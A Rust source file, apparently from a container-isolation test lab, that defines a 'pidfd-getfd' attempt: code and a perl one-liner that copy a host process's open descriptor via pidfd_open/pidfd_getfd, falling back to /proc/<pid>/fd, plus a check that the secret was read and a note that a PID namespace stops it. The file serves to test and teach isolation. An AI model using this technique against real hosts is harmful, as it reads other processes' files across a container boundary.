//! pidfd-getfd: take an open file away from a process of the host.

use super::{Attempt, Measured, Need};
use crate::attacker::Failed;
use crate::refusals::Refusal;
use crate::victim::DESCRIPTOR;
use crate::{Attacker, Host, Seen};
use nix::errno::Errno;
use nix::libc;

/// The attempt.
pub const ATTEMPT: Attempt = Attempt {
    id: "pidfd-getfd",
    stake: "Every file, socket and device that a process of the host has open, whatever the path's \
            permissions are now.",
    story: "The attacker asks for a descriptor of a process of the host (pidfd_open), copies one of \
            that process's descriptors into its own table (pidfd_getfd), and reads the file behind \
            it. That needs no path, so no file tree of the container's own helps. It needs a number \
            for the process, and in a PID namespace of its own the container has none.",
    by_hand: &[
        "[ -e /dev/null ] || touch /dev/null",
        r#"perl -e 'print syscall(438, syscall(434, 1234, 0), 0, 0), "\n"'    # a copy of 1234's descriptor 0; -1: refused"#,
    ],
    stopped_by: &["lab1-namespaces/pid-namespace"],
    after: &[],
    man: &["pidfd_open(2)", "pidfd_getfd(2)", "pid_namespaces(7)"],
    letters: Measured { root: "E EBBBBBB", user: "E EBBBBBB", rootless: "E EBBBBBB" },
    needs: &[Need::FreshHost],
    decisive: &[
        libc::SYS_pidfd_open,
        libc::SYS_pidfd_getfd,
        libc::SYS_mount,
        libc::SYS_fsopen,
        libc::SYS_fsconfig,
        libc::SYS_fsmount,
        libc::SYS_move_mount,
        libc::SYS_openat,
        libc::SYS_openat2,
    ],
    attack,
    class: Refusal::Process,
    witness,
};

fn attack(me: &mut Attacker) -> Result<(), Failed> {
    let victim = me.victim()?;
    let process = me.pidfd_of(victim);
    let file = process.and_then(|process| me.pidfd_getfd(process, DESCRIPTOR));
    match file {
        // It has a path as well, which leads to the file itself (proc_pid_fd(5)).
        Err(Failed::Refused(Errno::EPERM | Errno::EACCES | Errno::ENOSYS)) => {
            me.through_procfs(victim, |me, process| {
                let file = me.open_stake(&format!("{process}/fd/{DESCRIPTOR}"), libc::O_RDONLY)?;
                me.take(file)
            })
        }
        file => me.take(file?),
    }
}

fn witness(host: &Host) -> Seen {
    if host.heard_secret("victim-file") {
        return Seen::Effect("the attacker has read a file that a process of the host holds open".into());
    }
    Seen::Nothing
}
